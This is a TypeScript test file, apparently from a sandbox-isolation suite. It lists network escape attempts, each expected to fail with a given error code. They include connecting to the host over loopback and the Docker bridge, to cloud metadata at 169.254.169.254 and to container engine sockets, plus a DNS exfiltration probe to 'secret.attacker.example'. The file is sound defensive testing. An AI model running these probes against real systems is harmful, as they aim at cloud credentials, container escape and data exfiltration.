import type { HostileClass } from './case.js'

/** The host, the network, other boxes, and sockets that are files. */

const no = /^(ENETUNREACH|ECONNREFUSED|EADDRNOTAVAIL|ENETDOWN|EHOSTUNREACH|EAFNOSUPPORT|EINVAL)$/

export const network: HostileClass = {
  attempts: [
    { name: "the host's port on loopback", attempt: "return connect({ host: '127.0.0.1', port: HOST.port })", must: no },
    { name: "the host's port on loopback, version 6", attempt: "return connect({ host: '::1', port: HOST.port })", must: no },
    { name: 'the host by the address of its bridge', attempt: "return connect({ host: '172.17.0.1', port: HOST.port })", must: no },
    { name: 'the host by every address that it has', attempt: "return connect({ host: '0.0.0.0', port: HOST.port })", must: no },
    { name: 'an address of the internet', attempt: "return connect({ host: '1.1.1.1', port: 443 })", must: no },
    { name: 'an address of the internet, version 6', attempt: "return connect({ host: '2606:4700:4700::1111', port: 443 })", must: no },
    { name: "a cloud's metadata", attempt: "return connect({ host: '169.254.169.254', port: 80 })", must: no },
    { name: "a cloud's metadata by fetch", attempt: "return fetch('http://169.254.169.254/latest/meta-data/').then(() => 'reached', (e) => e.cause.code)", must: no },
    { name: 'a name of the internet', attempt: "return dns.lookup('example.com').then(() => 'reached')", must: /^(EAI_AGAIN|ENOTFOUND)$/ },
    { name: 'a question to a name server', attempt: "const r = new dns.Resolver({ timeout: 500, tries: 1 }); r.setServers(['1.1.1.1']); return r.resolve4('example.com').then(() => 'reached')", must: /^(ECONNREFUSED|ETIMEOUT|ENETUNREACH)$/ },
    { name: 'data in the name of a question', attempt: "const r = new dns.Resolver({ timeout: 500, tries: 1 }); return r.resolveTxt('secret.attacker.example').then(() => 'reached')", must: /^(ECONNREFUSED|ETIMEOUT)$/ },
    {
      name: 'a datagram to the host',
      attempt: "const s = dgram.createSocket('udp4'); return new Promise((done) => { s.on('error', (e) => done(e.code)); s.send('x', 53, '172.17.0.1', (e) => done(e ? e.code : 'reached')) })",
      must: no,
    },
    {
      name: 'a datagram to everybody',
      attempt: "const s = dgram.createSocket('udp4'); return new Promise((done) => s.bind(0, () => { try { s.setBroadcast(true); s.send('x', 9, '255.255.255.255', (e) => done(e ? e.code : 'reached')) } catch (e) { done(e.code) } }))",
      must: no,
    },
    { name: 'interfaces', attempt: 'return Object.keys(os.networkInterfaces()).join()', must: /^(lo)?$/ },
    { name: 'routes', attempt: "return fs.readFileSync('/proc/net/route', 'utf8').trim().split('\\n').length", must: 1 },
    { name: "the engine's socket", attempt: "return connect({ path: '/var/run/docker.sock' })", must: 'ENOENT' },
    { name: "another engine's socket", attempt: "return connect({ path: '/run/podman/podman.sock' })", must: 'ENOENT' },
    { name: "containerd's socket", attempt: "return connect({ path: '/run/containerd/containerd.sock' })", must: 'ENOENT' },
    { name: 'an abstract socket of the host', attempt: "return connect({ path: '\\0' + HOST.abstract })", must: 'ECONNREFUSED' },
    { name: "containerd's abstract socket", attempt: "const all = fs.readFileSync('/proc/net/unix', 'utf8'); return /containerd|docker|HOST/.test(all) ? 'reached' : 'none'", must: 'none' },
    { name: "another box's port", attempt: "return connect({ host: '127.0.0.1', port: 8765 })", must: no },
    { name: 'its own port', attempt: "const s = net.createServer().listen(8765, '127.0.0.1'); await new Promise((up) => s.on('listening', up)); return connect({ host: '127.0.0.1', port: 8765 })", must: 'reached' },
    { name: 'a port below 1024', attempt: "const s = net.createServer(); return new Promise((done) => { s.on('error', (e) => done(e.code)); s.listen(80, '127.0.0.1', () => done('own loopback')) })", must: /^(EACCES|own loopback)$/ },
  ],
}
